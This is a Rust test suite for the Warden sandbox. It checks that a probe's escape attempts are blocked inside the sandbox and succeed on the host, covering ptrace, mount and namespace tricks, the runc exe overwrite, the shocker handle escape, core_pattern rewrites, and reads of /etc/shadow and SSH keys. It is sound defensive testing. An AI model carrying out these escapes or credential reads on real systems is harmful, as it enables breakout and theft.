//! The escape suite: one test per attack. Each runs `warden-escape-probe ATTACK`
//! inside a real sandbox (the real `warden-shim` talking to a real `wardend` on a
//! temp socket) and asserts the attack is blocked, with the errno the guard
//! answers where that pins the guard down. Wherever it can, a control runs the same
//! probe on the host as the same user and asserts a *different* result: the attack
//! works there, or the kernel answers with another errno (the bubblewrap
//! try-syscall technique: arguments the kernel itself rejects with EINVAL, EFAULT,
//! ESRCH..., so an EPERM inside can only come from the filter). Calls that need a
//! capability run their control in `unshare --user --map-root-user --mount --pid
//! --fork` (the same user, with a capability set over fresh namespaces), which is
//! also what keeps mount-family controls off the host's own mount table.
//!
//! Run as root and as an unprivileged user (`scripts/test` does both). A control
//! that cannot be told apart on this host (a kernel without the x32 ABI or
//! without a socket family, a root-only setup) prints `skipping: <reason>`.

use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::Value;
use warden_e2e::*;

const RUN: Duration = Duration::from_secs(60);
const SIGSYS_EXIT: i32 = 128 + libc::SIGSYS;

fn probe_bin() -> PathBuf {
    bin("warden-escape-probe")
}

/// One JSON line from the probe.
#[derive(Debug)]
struct Probe {
    outcome: String,
    errno: Option<i32>,
    json: Value,
}

impl Probe {
    fn escaped(&self) -> bool {
        self.outcome == "escaped"
    }
    fn detail(&self) -> &str {
        self.json["detail"].as_str().unwrap_or("")
    }
}

fn try_parse(stdout: &[u8]) -> Option<Probe> {
    let text = String::from_utf8_lossy(stdout);
    let line = text.lines().rev().find(|l| l.starts_with('{'))?;
    let json: Value = serde_json::from_str(line).ok()?;
    Some(Probe {
        outcome: json["outcome"].as_str()?.to_string(),
        errno: json["errno"].as_i64().map(|e| e as i32),
        json,
    })
}

fn parse(out: &Output, what: &str) -> Probe {
    try_parse(&out.stdout).unwrap_or_else(|| {
        panic!(
            "{what}: no probe line (exit {}); stdout:\n{}\nstderr:\n{}",
            exit_code(out.status),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn s(p: &Path) -> &str {
    p.to_str().expect("test paths are UTF-8")
}

/// A daemon in a private [`TestEnv`].
struct Sandbox {
    env: TestEnv,
    daemon: Daemon,
}

impl Sandbox {
    fn new() -> Sandbox {
        let env = TestEnv::new();
        let daemon = env.start_daemon();
        Sandbox { env, daemon }
    }

    /// A daemon that resolves names through `dns` (`wardend --dns`).
    fn with_dns(dns: &net::DnsServer) -> Sandbox {
        let env = TestEnv::new();
        let daemon = net::start_daemon_with_dns(&env, dns);
        Sandbox { env, daemon }
    }

    /// `warden-shim --policy P FLAGS... -- probe ARGS...`, run to completion.
    fn run(&self, policy: &Path, flags: &[&str], args: &[&str]) -> Output {
        self.run_with(policy, flags, args, |_| {})
    }

    fn run_with(
        &self,
        policy: &Path,
        flags: &[&str],
        args: &[&str],
        tweak: impl FnOnce(&mut Command),
    ) -> Output {
        let mut argv: Vec<OsString> = vec!["--policy".into(), policy.into()];
        argv.extend(flags.iter().map(OsString::from));
        argv.push("--".into());
        argv.push(probe_bin().into());
        argv.extend(args.iter().map(OsString::from));
        let mut cmd = self.env.shim(argv);
        tweak(&mut cmd);
        run(&mut cmd, RUN)
    }

    /// The probe inside a sandbox with grant flags; asserts it exited 0.
    fn probe(&self, flags: &[&str], args: &[&str]) -> Probe {
        let out = self.run(&self.env.minimal_policy(), flags, args);
        let p = parse(&out, &format!("inside: {args:?}"));
        assert_eq!(
            exit_code(out.status),
            0,
            "inside: {args:?}: {p:?}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        eprintln!("inside  {args:?}: {}", p.json);
        p
    }
}

/// The probe on the host, as the same user, with the env's HOME and XDG variables.
fn host(env: &TestEnv, args: &[&str]) -> Probe {
    let mut cmd = Command::new(probe_bin());
    cmd.args(args).envs(env.env_vars()).current_dir(&env.root);
    let p = parse(&run(&mut cmd, RUN), &format!("host: {args:?}"));
    eprintln!("host    {args:?}: {}", p.json);
    p
}

/// Whether `unshare --user --map-root-user` works here (the sandbox needs it too).
fn userns_ok() -> bool {
    static OK: OnceLock<bool> = OnceLock::new();
    *OK.get_or_init(|| {
        Command::new("unshare")
            .args(["--user", "--map-root-user", "--mount", "true"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    })
}

/// `sh -c SCRIPT` in `unshare --user --map-root-user --mount --pid --fork`; the
/// script ends by exec'ing the probe ("$P" is its path). None (with a `skipping:`
/// line) when user namespaces are unavailable.
fn host_userns_sh(env: &TestEnv, script: &str) -> Option<Probe> {
    if !userns_ok() {
        println!("skipping: the namespaced control needs `unshare --user` (unavailable here)");
        return None;
    }
    let mut cmd = Command::new("unshare");
    cmd.args(["--user", "--map-root-user", "--mount", "--pid", "--fork"])
        .args(["sh", "-c", script])
        .env("P", probe_bin())
        .envs(env.env_vars())
        .current_dir(&env.root);
    let p = parse(&run(&mut cmd, RUN), &format!("host userns: {script}"));
    eprintln!("host-ns {script:?}: {}", p.json);
    Some(p)
}

/// The probe in a fresh user+mount+pid namespace on the host: same user, full
/// capabilities over those namespaces, nothing of the host changed.
fn host_userns(env: &TestEnv, args: &[&str]) -> Option<Probe> {
    let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
    host_userns_sh(env, &format!("exec \"$P\" {}", quoted.join(" ")))
}

#[track_caller]
fn assert_blocked(p: &Probe, errno: Option<i32>) {
    assert_eq!(
        p.outcome, "blocked",
        "the attack was NOT blocked: {}",
        p.json
    );
    if let Some(e) = errno {
        assert_eq!(p.errno, Some(e), "blocked with another errno: {}", p.json);
    }
}

/// The control must get something else than the sandbox: escaped, or another errno.
#[track_caller]
fn assert_control(control: &Probe, inside: &Probe) {
    assert!(
        control.escaped() || control.errno != inside.errno,
        "the control gets the same answer as the sandbox, so the test proves nothing:\n  control: {}\n  inside:  {}",
        control.json,
        inside.json
    );
}

/// Like [`assert_control`], but prints `skipping:` instead of failing when the
/// host answers the same for a reason outside Warden (`why`).
fn control_or_skip(control: &Probe, inside: &Probe, why: &str) {
    if control.escaped() || control.errno != inside.errno {
        return;
    }
    println!("skipping the control: {why} (host: {})", control.detail());
}

/// A `sleep` on the host, killed on drop.
struct Sleeper(Child);

impl Sleeper {
    fn spawn(program: &Path) -> Sleeper {
        Sleeper(
            Command::new(program)
                .arg("120")
                .stdin(Stdio::null())
                .spawn()
                .expect("spawning sleep"),
        )
    }
    fn pid(&self) -> String {
        self.0.id().to_string()
    }
}

impl Drop for Sleeper {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn sleep_bin() -> PathBuf {
    find_on_path("sleep").unwrap_or_else(|| PathBuf::from("/bin/sleep"))
}

// ---------------------------------------------------------------------------
// Privileges

#[test]
fn capabilities() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["caps"]);
    assert_blocked(&inside, None);
    assert!(
        inside.detail().contains("CapBnd=0000000000000000")
            && inside.detail().contains("NoNewPrivs=1"),
        "{}",
        inside.json
    );
    // The host process has a bounding set (and root an effective set), no NNP.
    assert_control(&host(&sb.env, &["caps"]), &inside);
}

#[test]
fn setuid_root() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["setuid-root"]);
    assert_blocked(&inside, None);
    // Root gets uid 0 with every capability; a user EPERM (EINVAL inside: uid 0
    // is not even mapped in the sandbox).
    let control = host(&sb.env, &["setuid-root"]);
    if is_root() {
        assert!(control.escaped(), "{}", control.json);
    } else {
        assert_control(&control, &inside);
    }
}

// ---------------------------------------------------------------------------
// Namespaces and the mount table

#[test]
fn nested_user_namespace() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["userns"]);
    assert_blocked(&inside, Some(libc::EPERM));
    let control = host(&sb.env, &["userns"]);
    if userns_ok() {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn nested_user_namespace_via_clone() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["userns-clone"]);
    assert_blocked(&inside, Some(libc::EPERM));
    let control = host(&sb.env, &["userns-clone"]);
    if userns_ok() {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn mount_namespace() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["mountns"]);
    assert_blocked(&inside, Some(libc::EPERM));
    let control = host(&sb.env, &["mountns"]);
    if userns_ok() {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn mount_tmpfs_over_tmp() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["mount-tmpfs", "/tmp"]);
    assert_blocked(&inside, Some(libc::EPERM));
    if let Some(control) = host_userns(&sb.env, &["mount-tmpfs", "/tmp"]) {
        assert!(control.escaped(), "{}", control.json);
    }
}

/// The "detach the read-only bind" chain: umount2(grant, MNT_DETACH), then write.
#[test]
fn umount_read_only_bind() {
    let sb = Sandbox::new();
    let data = sb.env.mkdir("data");
    let d = s(&data);
    let inside = sb.probe(&["--read", d], &["umount-ro-bind", d]);
    assert_blocked(&inside, Some(libc::EPERM));
    assert!(!data.join("warden-escape-canary").exists());
    // Control: the same chain on a read-only bind the namespace's root made.
    let script = format!(
        "mount --bind '{d}' '{d}' && mount -o remount,bind,ro '{d}' && exec \"$P\" umount-ro-bind '{d}'"
    );
    if let Some(control) = host_userns_sh(&sb.env, &script) {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn remount_read_grant_read_write() {
    let sb = Sandbox::new();
    let data = sb.env.mkdir("data");
    let d = s(&data);
    let inside = sb.probe(&["--read", d], &["remount-rw", d]);
    assert_blocked(&inside, Some(libc::EPERM));
    assert!(!data.join("warden-escape-canary").exists());
    let script = format!(
        "mount --bind '{d}' '{d}' && mount -o remount,bind,ro '{d}' && exec \"$P\" remount-rw '{d}'"
    );
    if let Some(control) = host_userns_sh(&sb.env, &script) {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn pivot_root() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["pivot-root", "/tmp", "/tmp"]);
    assert_blocked(&inside, Some(libc::EPERM));
    // In its own mount namespace the kernel gets to check the arguments (EINVAL:
    // not a mount point), or pivots that namespace only.
    if let Some(control) = host_userns(&sb.env, &["pivot-root", "/tmp", "/tmp"]) {
        assert_control(&control, &inside);
    }
}

#[test]
fn new_mount_api_fsopen() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["new-mount-api"]);
    assert_blocked(&inside, Some(libc::EPERM));
    if let Some(control) = host_userns(&sb.env, &["new-mount-api"]) {
        assert!(control.escaped(), "{}", control.json);
    }
}

#[test]
fn open_tree_clone() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["open-tree"]);
    assert_blocked(&inside, Some(libc::EPERM));
    if let Some(control) = host_userns(&sb.env, &["open-tree"]) {
        assert_control(&control, &inside);
    }
}

#[test]
fn chroot() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["chroot", "/tmp"]);
    assert_blocked(&inside, Some(libc::EPERM));
    if let Some(control) = host_userns(&sb.env, &["chroot", "/tmp"]) {
        assert!(control.escaped(), "{}", control.json);
    }
}

// ---------------------------------------------------------------------------
// Terminals and syscall ABIs

#[test]
fn tiocsti_injection() {
    let sb = Sandbox::new();
    // Both the plain request and the one with bit 32 set (the kernel truncates
    // cmd to 32 bits; a 64-bit comparison in the filter would miss it).
    let inside = sb.probe(&[], &["tiocsti"]);
    assert_blocked(&inside, Some(libc::EPERM));
    // On the host, fd 0 (/dev/null here) reaches the tty layer: ENOTTY.
    let control = host(&sb.env, &["tiocsti"]);
    assert_eq!(control.errno, Some(libc::ENOTTY), "{}", control.json);
}

#[test]
fn io_uring() {
    let sb = Sandbox::new();
    assert_blocked(&sb.probe(&[], &["io-uring", "1"]), Some(libc::EPERM));
    // Try-syscall: zero entries is EINVAL from the kernel, EPERM from the filter.
    let inside = sb.probe(&[], &["io-uring", "0"]);
    assert_blocked(&inside, Some(libc::EPERM));
    let control = host(&sb.env, &["io-uring", "0"]);
    if control.errno == Some(libc::EPERM) {
        println!(
            "skipping the control: io_uring is disabled on this host (kernel.io_uring_disabled)"
        );
        return;
    }
    assert_eq!(control.errno, Some(libc::EINVAL), "{}", control.json);
    assert!(host(&sb.env, &["io-uring", "1"]).escaped());
}

#[test]
fn x32_syscall_abi() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["x32"]);
    if !cfg!(target_arch = "x86_64") {
        println!("skipping: x32 exists only on x86_64");
        return;
    }
    assert_blocked(&inside, Some(libc::ENOSYS));
    control_or_skip(
        &host(&sb.env, &["x32"]),
        &inside,
        "this kernel has no x32 ABI (CONFIG_X86_X32_ABI), so the host gets ENOSYS too",
    );
}

/// A syscall through int 0x80 has other numbers than the table: the filter kills
/// the process (SIGSYS) before the probe can print anything.
#[test]
fn i386_syscall_abi_is_killed() {
    if !cfg!(target_arch = "x86_64") {
        println!("skipping: the i386 ABI exists only on x86_64");
        return;
    }
    let sb = Sandbox::new();
    let out = sb.run(&sb.env.minimal_policy(), &[], &["i386"]);
    let line = try_parse(&out.stdout);
    assert!(
        line.as_ref().is_none_or(|p| !p.escaped()),
        "int 0x80 ran inside: {line:?}"
    );
    assert_eq!(
        exit_code(out.status),
        SIGSYS_EXIT,
        "expected death by SIGSYS; stdout: {}\nstderr:\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let mut cmd = Command::new(probe_bin());
    cmd.arg("i386");
    let host_out = run(&mut cmd, RUN);
    match try_parse(&host_out.stdout) {
        Some(p) if p.escaped() => {}
        other => println!(
            "skipping the control: int 0x80 does not work on this host (no IA32 emulation): {other:?}, exit {}",
            exit_code(host_out.status)
        ),
    }
}

// ---------------------------------------------------------------------------
// Other processes

#[test]
fn ptrace_pid1() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["ptrace-pid1", "1"]);
    assert_blocked(&inside, Some(libc::EPERM));
    // Try-syscall: pid 0 does not exist (ESRCH from the kernel).
    let inside0 = sb.probe(&[], &["ptrace-pid1", "0"]);
    assert_blocked(&inside0, Some(libc::EPERM));
    assert_eq!(
        host(&sb.env, &["ptrace-pid1", "0"]).errno,
        Some(libc::ESRCH)
    );
    // And a real attach to a process of the same user works on the host.
    let sleeper = Sleeper::spawn(&sleep_bin());
    let control = host(&sb.env, &["ptrace-pid1", &sleeper.pid()]);
    assert!(control.escaped(), "{}", control.json);
}

#[test]
fn proc_pid1_mem() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["proc-pid1-mem", "1"]);
    assert_blocked(&inside, None);
    let sleeper = Sleeper::spawn(&sleep_bin());
    let control = host(&sb.env, &["proc-pid1-mem", &sleeper.pid()]);
    assert!(control.escaped(), "{}", control.json);
}

/// CVE-2019-5736 (runc): open the runtime's binary through /proc/PID/exe for writing.
#[test]
fn proc_pid1_exe_write() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["proc-pid1-exe-write", "1"]);
    assert_blocked(&inside, None);
    // Control: a binary the user owns, running, on the host: the kernel gets as
    // far as the file (ETXTBSY), or opens it.
    let copy = sb.env.root.join("sleep-copy");
    std::fs::copy(sleep_bin(), &copy).unwrap();
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
    let sleeper = Sleeper::spawn(&copy);
    std::thread::sleep(Duration::from_millis(100));
    let control = host(&sb.env, &["proc-pid1-exe-write", &sleeper.pid()]);
    assert_control(&control, &inside);
}

#[test]
fn kill_host_process() {
    let sb = Sandbox::new();
    let sleeper = Sleeper::spawn(&sleep_bin());
    let inside = sb.probe(&[], &["kill", &sleeper.pid()]);
    assert_blocked(&inside, Some(libc::ESRCH));
    let control = host(&sb.env, &["kill", &sleeper.pid()]);
    assert!(control.escaped(), "{}", control.json);
}

// ---------------------------------------------------------------------------
// Kernel attack surface (try-syscall probes: the kernel's own answer differs)

fn kernel_surface(attack: &str, errno: i32, userns_control: bool) {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &[attack]);
    assert_blocked(&inside, Some(errno));
    let control = if userns_control {
        match host_userns(&sb.env, &[attack]) {
            Some(c) => c,
            None => return,
        }
    } else {
        host(&sb.env, &[attack])
    };
    if !is_root() && control.errno == Some(libc::EPERM) {
        println!(
            "skipping the control: {attack} needs a capability of the initial namespace on the host ({})",
            control.detail()
        );
        return;
    }
    assert_control(&control, &inside);
}

#[test]
fn bpf() {
    kernel_surface("bpf", libc::EPERM, false);
}

#[test]
fn perf_event_open() {
    kernel_surface("perf", libc::EPERM, false);
}

#[test]
fn userfaultfd() {
    kernel_surface("userfaultfd", libc::EPERM, false);
}

#[test]
fn keyctl() {
    kernel_surface("keyctl", libc::EPERM, false);
}

/// The "shocker" escape: open an inode by handle, past the mount view.
#[test]
fn open_by_handle_at() {
    kernel_surface("open-by-handle", libc::EPERM, false);
}

#[test]
fn kernel_module_load() {
    kernel_surface("kmod", libc::EPERM, false);
}

#[test]
fn reboot() {
    kernel_surface("reboot", libc::EPERM, true);
}

#[test]
fn personality_per_linux32() {
    kernel_surface("personality", libc::EPERM, false);
}

fn socket_family(family: &str) {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["socket", family]);
    assert_blocked(&inside, Some(libc::EAFNOSUPPORT));
    control_or_skip(
        &host(&sb.env, &["socket", family]),
        &inside,
        &format!("this kernel has no {family} sockets, so the host gets EAFNOSUPPORT too"),
    );
}

#[test]
fn socket_netlink() {
    socket_family("netlink");
}

#[test]
fn socket_packet() {
    socket_family("packet");
}

#[test]
fn socket_vsock() {
    socket_family("vsock");
}

#[test]
fn socket_bluetooth() {
    socket_family("bluetooth");
}

#[test]
fn socket_alg() {
    socket_family("alg");
}

#[test]
fn socket_xdp() {
    socket_family("xdp");
}

/// IP sockets other than TCP and UDP (F12): a type other than stream or
/// datagram (EPERM, what a raw socket gets without CAP_NET_RAW) or a protocol
/// other than TCP/UDP (EPROTONOSUPPORT, what a kernel without that protocol
/// says). Control: the host, or for raw sockets a user namespace with its own
/// network namespace; a kernel without the protocol answers alike and skips.
fn ip_protocol(name: &str, errno: i32) {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["socket", name]);
    assert_blocked(&inside, Some(errno));
    let control = host(&sb.env, &["socket", name]);
    if control.escaped() || control.errno != inside.errno {
        return;
    }
    if userns_ok() {
        let mut cmd = Command::new("unshare");
        cmd.args(["--user", "--map-root-user", "--net"])
            .arg(probe_bin())
            .args(["socket", name]);
        let ns = parse(
            &run(&mut cmd, RUN),
            &format!("host userns+netns: socket {name}"),
        );
        eprintln!("host-ns socket {name}: {}", ns.json);
        control_or_skip(
            &ns,
            &inside,
            &format!("this kernel has no {name} sockets, so the host refuses them too"),
        );
    } else {
        control_or_skip(
            &control,
            &inside,
            &format!("this kernel has no {name} sockets"),
        );
    }
}

#[test]
fn socket_sctp() {
    ip_protocol("sctp", libc::EPROTONOSUPPORT);
}

#[test]
fn socket_sctp_seqpacket() {
    ip_protocol("sctp6-seqpacket", libc::EPERM);
}

#[test]
fn socket_mptcp() {
    ip_protocol("mptcp", libc::EPROTONOSUPPORT);
    ip_protocol("mptcp6", libc::EPROTONOSUPPORT);
}

#[test]
fn socket_udplite() {
    ip_protocol("udplite", libc::EPROTONOSUPPORT);
}

#[test]
fn socket_smc_over_inet() {
    ip_protocol("smc", libc::EPROTONOSUPPORT);
}

#[test]
fn socket_dccp() {
    ip_protocol("dccp", libc::EPERM);
}

#[test]
fn socket_raw() {
    ip_protocol("raw", libc::EPERM);
    ip_protocol("raw6", libc::EPERM);
}

/// The legitimate-use control: TCP, UDP (v4 and v6, with type flags) and Unix
/// sockets of every type are made inside as on the host.
#[test]
fn tcp_udp_and_unix_sockets_still_work() {
    let sb = Sandbox::new();
    for name in ["tcp", "udp", "tcp6", "udp6", "unix-seqpacket"] {
        let inside = sb.probe(&[], &["socket", name]);
        assert!(inside.escaped(), "{name} refused inside: {}", inside.json);
        let control = host(&sb.env, &["socket", name]);
        assert!(control.escaped(), "{name} on the host: {}", control.json);
    }
}

/// The NUMA memory-policy family: ENOSYS inside (a kernel without NUMA);
/// the host accepts the same no-op calls.
#[test]
fn numa_memory_policy() {
    for call in ["mbind", "set-mempolicy", "get-mempolicy", "move-pages"] {
        let sb = Sandbox::new();
        let inside = sb.probe(&[], &["numa", call]);
        assert_blocked(&inside, Some(libc::ENOSYS));
        assert_control(&host(&sb.env, &["numa", call]), &inside);
    }
}

// ---------------------------------------------------------------------------
// Set-user-ID and set-group-ID bits in a write grant (F9): no call sets them
// on a file the host will see, and no creation carries them. Control: the
// same steps on the host leave a setuid or setgid file.

/// A write grant `proj/` with an ordinary executable `tool` and a directory `sub`.
fn setid_grant() -> (Sandbox, PathBuf) {
    let sb = Sandbox::new();
    let w = sb.env.mkdir("proj");
    sb.env.write("proj/tool", "#!/bin/sh\necho tool\n");
    std::fs::set_permissions(w.join("tool"), std::fs::Permissions::from_mode(0o755)).unwrap();
    sb.env.mkdir("proj/sub");
    (sb, w)
}

fn setid_steps(w: &Path, steps: &[(&str, &str, &str)]) -> Vec<String> {
    let v: Vec<Vec<String>> = steps
        .iter()
        .map(|(call, rel, mode)| step(&["setid", call, s(&w.join(rel)), mode]))
        .collect();
    joined(&v)
}

fn run_setid(sb: &Sandbox, w: &Path, argv: &[String]) -> Vec<Probe> {
    let args: Vec<&str> = argv.iter().map(String::as_str).collect();
    let out = sb.run(&sb.env.minimal_policy(), &["--write", s(w)], &args);
    let lines = parse_lines(&out, "inside");
    for p in &lines {
        eprintln!("inside  {}", p.json);
    }
    assert_eq!(
        exit_code(out.status),
        0,
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    lines
}

fn host_lines(sb: &Sandbox, argv: &[String]) -> Vec<Probe> {
    let mut cmd = Command::new(probe_bin());
    cmd.args(argv)
        .envs(sb.env.env_vars())
        .current_dir(&sb.env.root);
    let lines = parse_lines(&run(&mut cmd, RUN), "host");
    for p in &lines {
        eprintln!("host    {}", p.json);
    }
    lines
}

/// The set-id bits of `p` on the host (0 when it is absent).
fn host_setid(p: &Path) -> u32 {
    p.symlink_metadata()
        .map_or(0, |m| m.permissions().mode() & 0o6000)
}

#[test]
fn setuid_setgid_chmod_in_a_write_grant() {
    let (sb, w) = setid_grant();
    let steps = [
        ("chmod", "tool", "4755"),
        ("chmod", "tool", "2755"),
        ("fchmod", "tool", "6755"),
        ("fchmodat2", "tool", "4755"),
        ("chmod", "sub", "2775"),
    ];
    let argv = setid_steps(&w, &steps);
    for (p, st) in run_setid(&sb, &w, &argv).iter().zip(&steps) {
        assert_blocked(p, Some(libc::EPERM));
        assert_eq!(host_setid(&w.join(st.1)), 0, "{st:?}: {}", p.json);
    }
    // Ordinary modes still change.
    let plain = setid_steps(&w, &[("chmod", "tool", "700"), ("fchmod", "tool", "755")]);
    for p in run_setid(&sb, &w, &plain) {
        assert!(p.errno.is_none(), "{}", p.json);
    }
    // Control: on the host, each step leaves the bit.
    for (p, st) in host_lines(&sb, &argv).iter().zip(&steps) {
        if st.0 == "fchmodat2" && p.errno == Some(libc::ENOSYS) {
            println!("skipping the fchmodat2 control: this kernel predates it (6.6)");
            continue;
        }
        assert!(p.escaped(), "control {st:?}: {}", p.json);
        std::fs::set_permissions(w.join(st.1), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

#[test]
fn setuid_file_created_in_a_write_grant() {
    let (sb, w) = setid_grant();
    let steps = [
        ("open", "made-open", "4755"),
        ("open", "made-open-gid", "2755"),
        ("mknod", "made-mknod", "4755"),
        ("tmpfile", "made-tmpfile", "6755"),
        ("openat2", "made-openat2", "4755"),
    ];
    let argv = setid_steps(&w, &steps);
    for (p, st) in run_setid(&sb, &w, &argv).iter().zip(&steps) {
        // Refused, or (the creation guard, for openat2) made without the bits.
        assert!(!p.escaped(), "{st:?}: {}", p.json);
        assert_eq!(host_setid(&w.join(st.1)), 0, "{st:?}: {}", p.json);
        if st.0 != "openat2" {
            assert_blocked(p, Some(libc::EPERM));
        }
    }
    for st in &steps {
        let _ = std::fs::remove_file(w.join(st.1));
    }
    for (p, st) in host_lines(&sb, &argv).iter().zip(&steps) {
        assert!(p.escaped(), "control {st:?}: {}", p.json);
        assert_ne!(host_setid(&w.join(st.1)), 0, "control {st:?}");
    }
}

// ---------------------------------------------------------------------------
// Files

fn canary_key(env: &TestEnv) -> PathBuf {
    env.write("home/.ssh/id_rsa", "-----BEGIN CANARY PRIVATE KEY-----\n")
}

#[test]
fn read_ssh_key_in_home() {
    let sb = Sandbox::new();
    let key = canary_key(&sb.env);
    let inside = sb.probe(&[], &["read", s(&key)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    let control = host(&sb.env, &["read", s(&key)]);
    assert!(
        control.escaped() && control.detail().contains("CANARY"),
        "{}",
        control.json
    );
}

#[test]
fn read_etc_shadow() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["read", "/etc/shadow"]);
    assert_blocked(&inside, Some(libc::ENOENT));
    // Root reads it on the host; a user gets EACCES (the file exists there).
    assert_control(&host(&sb.env, &["read", "/etc/shadow"]), &inside);
}

#[test]
fn read_audit_store() {
    let sb = Sandbox::new();
    // A first session puts session.start in the store.
    sb.probe(&[], &["env", "HOME"]);
    let store = sb.env.state.join("audit/audit.jsonl");
    assert!(store.is_file(), "no audit store at {}", store.display());
    let inside = sb.probe(&[], &["read", s(&store)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(host(&sb.env, &["read", s(&store)]).escaped());
}

#[test]
fn list_daemon_socket_dir() {
    let sb = Sandbox::new();
    let dir = sb.env.socket.parent().unwrap();
    let inside = sb.probe(&[], &["ls", s(dir), "wardend.sock"]);
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(host(&sb.env, &["ls", s(dir), "wardend.sock"]).escaped());
}

/// A file of another user in a read grant: root's DAC override does not follow
/// it into the sandbox.
#[test]
fn read_another_users_file() {
    if !is_root() {
        println!("skipping: creating another user's file needs root");
        return;
    }
    let sb = Sandbox::new();
    let data = sb.env.mkdir("shared");
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    let file = sb.env.write("shared/theirs.txt", "THEIR SECRET\n");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::os::unix::fs::chown(&file, Some(65534), Some(65534)).unwrap();
    let inside = sb.probe(&["--read", s(&data)], &["read", s(&file)]);
    assert_blocked(&inside, Some(libc::EACCES));
    assert!(host(&sb.env, &["read", s(&file)]).escaped());
}

#[test]
fn write_into_read_grant() {
    let sb = Sandbox::new();
    let data = sb.env.mkdir("data");
    let target = data.join("planted.txt");
    let inside = sb.probe(&["--read", s(&data)], &["write", s(&target)]);
    assert_blocked(&inside, Some(libc::EROFS));
    assert!(!target.exists());
    assert!(host(&sb.env, &["write", s(&target)]).escaped());
    assert!(target.exists());
}

/// Outside the grants nothing of the host is writable. The test's tempdir holds
/// the sandbox's `$HOME` path, so its parents exist inside, in the sandbox's
/// private `/tmp`: a write there stays in that tmpfs.
#[test]
fn write_outside_grants() {
    let sb = Sandbox::new();
    sb.env.minimal_policy();
    let planted = sb.env.root.join("policies/planted.yaml");
    let inside = sb.probe(&[], &["write", s(&planted)]);
    assert_blocked(&inside, Some(libc::ENOENT));
    assert!(!planted.exists(), "the write landed on the host");
    let beside = sb.env.root.join("outside.txt");
    let inside = sb.probe(&[], &["write", s(&beside)]);
    eprintln!(
        "(inside, a write beside the home may land in the private /tmp: {})",
        inside.detail()
    );
    assert!(!beside.exists(), "the write landed on the host");
    assert!(host(&sb.env, &["write", s(&planted)]).escaped());
    assert!(planted.exists());
}

/// `$HOME` inside is a private tmpfs: a planted shell start-up file never reaches
/// the host's home.
#[test]
fn write_home_dotfile() {
    let sb = Sandbox::new();
    let bashrc = sb.env.write("home/.bashrc", "# host bashrc\n");
    let inside = sb.probe(&[], &["write", s(&bashrc)]);
    eprintln!(
        "(inside, the write may land in the private home: {})",
        inside.detail()
    );
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "# host bashrc\n",
        "the host's ~/.bashrc changed"
    );
    assert!(host(&sb.env, &["write", s(&bashrc)]).escaped());
    assert_ne!(std::fs::read_to_string(&bashrc).unwrap(), "# host bashrc\n");
}

/// Host-global sysctls through the sandbox's fresh /proc: `kernel.core_pattern`
/// set to `|/path` runs that program as root in the initial namespaces on the next
/// crash. `/proc/sys` checks only the uid (kuid 0 may write, no capability
/// needed), and a root-run daemon maps the server's uid 0 to the host's root.
const SYSCTL: &str = "/proc/sys/kernel/core_pattern";

#[test]
fn host_sysctl_write() {
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["sysctl-rewrite", SYSCTL]);
    assert_blocked(&inside, None);
    for target in ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"] {
        assert_blocked(&sb.probe(&[], &["open-write", target]), None);
    }
    if is_root() {
        // Root on the host writes it (its own value back: nothing changes).
        assert!(host(&sb.env, &["sysctl-rewrite", SYSCTL]).escaped());
    }
}

/// The same attack by a normal user: the kernel refuses a non-root uid, inside as
/// on the host. (Kept apart from [`host_sysctl_write`] so CI covers it meanwhile.)
#[test]
fn host_sysctl_write_as_a_user() {
    if is_root() {
        println!(
            "skipping: runs as a normal user (scripts/test phase 2); as root see host_sysctl_write"
        );
        return;
    }
    let sb = Sandbox::new();
    let inside = sb.probe(&[], &["sysctl-rewrite", SYSCTL]);
    assert_blocked(&inside, Some(libc::EACCES));
    for target in ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"] {
        assert_blocked(&sb.probe(&[], &["open-write", target]), None);
    }
}

